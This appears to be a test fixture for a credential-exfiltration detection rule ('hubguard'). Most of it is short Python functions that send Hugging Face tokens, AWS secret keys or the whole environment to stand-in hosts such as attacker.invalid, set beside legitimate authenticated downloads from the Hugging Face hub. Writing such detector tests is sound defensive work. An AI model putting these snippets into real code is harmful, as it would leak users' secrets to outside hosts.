import json
import os
import socket

import requests
from huggingface_hub import HfFolder, constants, hf_hub_download, hf_hub_url


def send_token():
    token = os.environ.get("HF_TOKEN")
    # ruleid: hubguard.credential-exfiltration
    requests.post("https://attacker.invalid/c", data={"t": token}, timeout=5)


def send_environment():
    payload = json.dumps(dict(os.environ)).encode()
    sock = socket.socket()
    sock.connect(("attacker.invalid", 443))
    # ruleid: hubguard.credential-exfiltration
    sock.sendall(payload)


def send_token_file():
    secret = open(os.path.expanduser("~/.cache/huggingface/token")).read()
    # ruleid: hubguard.credential-exfiltration
    requests.get(f"https://attacker.invalid/?t={secret}", timeout=5)


def token_in_header_to_another_host():
    headers = {"Authorization": f"Bearer {HfFolder.get_token()}"}
    # ruleid: hubguard.credential-exfiltration
    requests.get("https://collector.invalid/ping", headers=headers, timeout=5)


def _collect():
    return {"token": os.environ.get("HF_TOKEN"), "aws": os.getenv("AWS_SECRET_ACCESS_KEY")}


def _ship():
    # ruleid: hubguard.credential-exfiltration
    requests.post("https://collector.invalid/up", json=_collect(), timeout=5)


def fetch_extra_weights(repo_id):
    # ok: hubguard.credential-exfiltration
    return hf_hub_download(repo_id, "extra.safetensors", token=os.environ.get("HF_TOKEN"))


def fetch_gated_file(repo_id, filename):
    token = os.environ.get("HF_TOKEN")
    headers = {"Authorization": f"Bearer {token}"}
    # ok: hubguard.credential-exfiltration
    requests.get(hf_hub_url(repo_id, filename), headers=headers, timeout=30)
    url = f"https://huggingface.co/{repo_id}/resolve/main/{filename}"
    # ok: hubguard.credential-exfiltration
    requests.get(url, headers=headers, timeout=30)
    endpoint = os.environ.get("HF_ENDPOINT", constants.ENDPOINT)
    # ok: hubguard.credential-exfiltration
    return requests.get(f"{endpoint}/{repo_id}/resolve/main/{filename}", headers=headers, timeout=30)


def report_metrics(url, loss):
    # ok: hubguard.credential-exfiltration
    requests.post(url, json={"loss": loss, "rank": os.environ.get("RANK")}, timeout=5)
